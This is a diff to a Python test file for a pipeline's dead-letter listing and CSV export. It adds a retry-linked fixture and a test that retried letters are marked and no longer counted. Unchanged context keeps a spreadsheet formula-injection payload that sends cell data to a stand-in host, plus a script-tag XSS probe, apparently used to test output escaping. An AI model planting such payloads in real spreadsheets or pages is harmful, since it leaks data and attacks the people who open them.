@@ -10,12 +10,22 @@ from datetime import UTC, date, datetime, timedelta
 from typing import TYPE_CHECKING, Any
 
 import httpx
+import msgspec
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
 from pipeline.access import AccessError
-from pipeline.records import ConsentChange, DeadLetter, MtCommand, MtRejection, Record
+from pipeline.records import (
+    ConsentChange,
+    DeadLetter,
+    DeadLetterRetry,
+    Header,
+    MtCommand,
+    MtRejection,
+    Record,
+)
+from pipeline.retries import RETRY_OF
 from pipeline.settings import Settings
 from pipeline.stages.rows import columns_of, row_from_record
 from pipeline.store.csv_answer import cell_from_value, csv_from_rows
@@ -35,6 +45,9 @@ if TYPE_CHECKING:
 
 FORMULA = '=HYPERLINK("http://x.example/?"&A1)'
 MARKUP = "<script>alert(1)</script>"
+
+
+LINK = Header(name=RETRY_OF, value=b"7" * 32)
 
 
 def by_kind(kind: type[Record]) -> Any:
@@ -70,6 +83,8 @@ def filled(database: Database) -> Database:
             by_kind(MtRejection),
             by_kind(ConsentChange),
             by_kind(DeadLetter),
+            msgspec.structs.replace(by_kind(DeadLetter), dead_letter_id="8" * 32, headers=[LINK]),
+            by_kind(DeadLetterRetry),
         ],
     )
     return database
@@ -158,6 +173,15 @@ def test_each_list_is_a_page_and_a_csv_with_a_heading(client: httpx.Client, name
     empty = client.get(f"/csv/{name}", params={"from": "2299-01-01", "handset": HANDSET})
     assert answer.content.splitlines()[0] == empty.content.splitlines()[0]
     assert len(list(csv.reader(io.StringIO(empty.text)))) == 1
+
+
+def test_a_letter_that_was_retried_is_marked_and_counts_no_more(client: httpx.Client) -> None:
+    rows = csv.DictReader(io.StringIO(client.get("/csv/dead-letters").content.decode("utf-8-sig")))
+    assert {row["dead_letter_id"]: (row["retry_of"], bool(row["retried_at"])) for row in rows} == {
+        "7" * 32: ("", True),
+        "8" * 32: ("7" * 32, False),
+    }
+    assert "<dt>Dead letters</dt><dd>1</dd>" in client.get("/").text
 
 
 def test_filters_narrow_every_list(client: httpx.Client) -> None:
